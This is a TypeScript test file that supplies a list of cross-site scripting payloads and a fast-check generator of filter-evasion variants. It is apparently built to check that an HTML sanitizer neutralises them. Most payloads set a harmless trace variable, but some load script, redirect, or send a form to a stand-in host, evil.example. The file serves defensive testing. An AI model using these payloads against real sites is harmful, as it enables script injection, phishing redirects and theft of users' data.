import fc from 'fast-check';

/**
 * Markup that would run `globalThis.ran=1`, or take a reader elsewhere, where it is shown unclean. Each entry is
 * another way: of OWASP's cheat sheet of filter evasion, or a mutation that browsers make of broken markup.
 */
export const HOSTILE_MARKUP: readonly string[] = [
  '<script>globalThis.ran=1</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=globalThis.ran=1>',
  '<img src="x" onerror="globalThis.ran=1"//',
  '<svg/onload=globalThis.ran=1>',
  '<svg><script>globalThis.ran=1</script></svg>',
  '<svg><animate onbegin=globalThis.ran=1 attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=globalThis.ran=1>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=globalThis.ran=1>',
  '<noscript><p title="</noscript><img src=x onerror=globalThis.ran=1>">',
  '<iframe srcdoc="<script>parent.globalThis.ran=1</script>"></iframe>',
  '<iframe src="javascript:parent.globalThis.ran=1"></iframe>',
  '<object data="javascript:globalThis.ran=1"></object>',
  '<embed src="javascript:globalThis.ran=1">',
  '<a href="javascript:globalThis.ran=1">aquí</a>',
  '<a href=" &#14; javascript:globalThis.ran=1">aquí</a>',
  '<a href="java&#x09;script:globalThis.ran=1">aquí</a>',
  '<a href="JaVaScRiPt&colon;globalThis.ran=1">aquí</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5nbG9iYWxUaGlzLnJhbj0xPC9zY3JpcHQ+">aquí</a>',
  '<a href="vbscript:globalThis.ran=1">aquí</a>',
  '<a href="//evil.example">aquí</a>',
  '<a href="https://tendero.co" onclick="globalThis.ran=1" style="position:fixed;inset:0">aquí</a>',
  '<details open ontoggle=globalThis.ran=1><summary>x</summary></details>',
  '<body onload=globalThis.ran=1>',
  '<input autofocus onfocus=globalThis.ran=1>',
  '<video><source onerror=globalThis.ran=1></video>',
  '<style>@import "javascript:globalThis.ran=1"; body{display:none}</style>',
  '<p style="background:url(javascript:globalThis.ran=1)">x</p>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<form action="https://evil.example"><button>Pagar</button></form>',
  '<!--><img src=x onerror=globalThis.ran=1>-->',
  '<![CDATA[><img src=x onerror=globalThis.ran=1>]]>',
  '<template><img src=x onerror=globalThis.ran=1></template>',
  '<xmp><p title="</xmp><img src=x onerror=globalThis.ran=1>"></xmp>',
  '<textarea></textarea><img src=x onerror=globalThis.ran=1>',
  '<<img src=x onerror=globalThis.ran=1>',
  '&lt;img src=x onerror=globalThis.ran=1&gt;',
];

/** What a text must not do; it leaves a trace that the test looks for. */
const TRACE = 'globalThis.ran=1';

/** Out of an attribute, a text, a comment, a style or a script. */
const way = fc.constantFrom(
  '',
  '">',
  "'>",
  '-->',
  '</style>',
  '</script>',
  '</textarea>',
  '</title>',
  '`',
  '&#34;>',
  '\u2028',
);
const tag = fc.constantFrom(
  (code: string) => `<img src=x onerror=${code}>`,
  (code: string) => `<svg/onload=${code}>`,
  (code: string) => `<script>${code}</script>`,
  (code: string) => `<iframe srcdoc="<script>parent.${code}</script>">`,
  (code: string) => `<details open ontoggle=${code}>`,
  (code: string) => `<math><mtext></form><form><mglyph><style></math><img src onerror=${code}>`,
  (code: string) => `<a href="javascript:${code}" autofocus onfocus=${code}>x</a>`,
  (code: string) => `javascript:${code}`,
  (code: string) => `[x](javascript:${code})`,
  (code: string) => `{{constructor.constructor('${code}')()}}`,
  (code: string) => `\${${code}}`,
);
const disguise = fc.constantFrom<(text: string) => string>(
  (text) => text,
  (text) => text.replaceAll('<', '&lt;'),
  (text) => text.replaceAll(' ', '/'),
  (text) => text.replaceAll(/[a-z]/g, (letter, at) => (at % 2 === 0 ? letter.toUpperCase() : letter)),
  (text) => `<${text}`,
);

/** Texts that run something, or lead to what runs, wherever a page takes them for markup. */
export const hostileMarkup: fc.Arbitrary<string> = fc
  .tuple(way, tag, disguise)
  .map(([out, make, hide]) => hide(`${out}${make(TRACE)}`).replaceAll(/globalthis\.ran/gi, 'globalThis.ran'));
